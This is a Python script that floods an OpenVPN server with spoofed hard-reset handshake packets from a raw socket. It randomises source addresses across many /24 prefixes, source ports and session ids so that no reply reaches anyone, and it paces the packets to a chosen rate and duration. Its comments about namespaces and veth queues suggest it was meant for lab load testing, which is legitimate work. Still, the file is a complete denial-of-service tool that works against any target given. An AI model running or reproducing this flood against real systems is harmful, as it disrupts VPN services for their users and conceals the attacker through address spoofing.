#!/usr/bin/python3
"""Spoofed OpenVPN hard-reset flood (P_CONTROL_HARD_RESET_CLIENT_V2, no wrapping) from a raw
socket: every packet has a random source host in one of PREFIXES /24s under BASE, a random source
port and a random client session id, so that none of them can be answered usefully. Paced in
1 ms batches to RATE packets/s for SECONDS; prints one JSON line with what it sent.

    ovpn_reset_flood.py TARGET_IP PORT RATE SECONDS [--prefixes N] [--base A.B.0.0]

Needs root (raw socket with IP_HDRINCL); run it in the namespace the flood comes from.
"""
import argparse
import ipaddress
import json
import os
import signal
import socket
import struct
import time


def packet(src: int, dst: int, sport: int, dport: int, sid: bytes) -> bytes:
    # opcode 7 (hard reset client v2) << 3 | key id 0, session id, no acks, message id 0
    payload = bytes([7 << 3]) + sid + b"\x00" + b"\x00\x00\x00\x00"
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no UDP checksum
    total = 20 + len(udp)
    # The kernel fills in the IP checksum (and the id when it is 0) for IP_HDRINCL sockets.
    ip = struct.pack("!BBHHHBBHII", 0x45, 0, total, 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
    return ip + udp


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("target")
    ap.add_argument("port", type=int)
    ap.add_argument("rate", type=int)
    ap.add_argument("seconds", type=float)
    ap.add_argument("--prefixes", type=int, default=4096)
    ap.add_argument("--base", default="172.16.0.0")
    a = ap.parse_args()

    dst = int(ipaddress.IPv4Address(a.target))
    base = int(ipaddress.IPv4Address(a.base))
    # A pool of distinct packets, built up front so that sending is all the loop does.
    rnd = os.urandom(65536 * 12)
    pool = []
    for i in range(65536):
        r = rnd[i * 12:(i + 1) * 12]
        prefix = int.from_bytes(r[0:2], "big") % a.prefixes
        host = r[2] or 1
        src = base + (prefix << 8) + host
        sport = 1024 + int.from_bytes(r[3:5], "big") % 64000
        sid = r[4:12]
        pool.append(packet(src, dst, sport, a.port, sid))

    stop = []  # SIGTERM ends the flood early, still printing what was sent
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    addr = (a.target, 0)
    sent = errors = 0
    start = time.monotonic()
    end = start + a.seconds
    i = 0
    n = len(pool)
    while True:
        now = time.monotonic()
        if now >= end or stop:
            break
        due = int((now - start) * a.rate) - sent - errors
        if due <= 0:
            time.sleep(0.0005)
            continue
        for _ in range(min(due, 2000)):
            try:
                s.sendto(pool[i], addr)
                sent += 1
            except OSError:  # ENOBUFS when the veth queue is full: counted, not fatal
                errors += 1
            i = (i + 1) % n
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(elapsed, 2),
                      "rate": round(sent / elapsed), "prefixes": a.prefixes,
                      "mode": "reset", "port": a.port}), flush=True)


if __name__ == "__main__":
    main()
